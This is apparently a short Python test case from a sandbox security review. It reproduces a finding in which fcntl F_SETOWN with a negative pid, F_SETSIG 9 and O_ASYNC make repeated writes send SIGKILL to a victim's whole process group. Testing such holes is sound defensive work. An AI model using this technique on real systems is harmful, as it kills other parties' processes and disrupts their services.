# expect: ok|error|killed
# why: finding 1: F_SETOWN with a negative pid: SIGKILL to the victim's whole process group
F_GETFL, F_SETFL, F_SETOWN, F_SETSIG, O_ASYNC = 3, 4, 8, 10, 0o20000
r1 = sc('fcntl', 1, F_SETOWN, -VICTIM)
r2 = sc('fcntl', 1, F_SETSIG, 9)
fl = sc('fcntl', 1, F_GETFL)[0]
r3 = sc('fcntl', 1, F_SETFL, fl | O_ASYNC)
print('setown', r1, 'setsig', r2, 'async', r3, flush=True)
for i in range(60):
    os.write(1, b'x' * 512 + b'\n')
libc.usleep(100000)
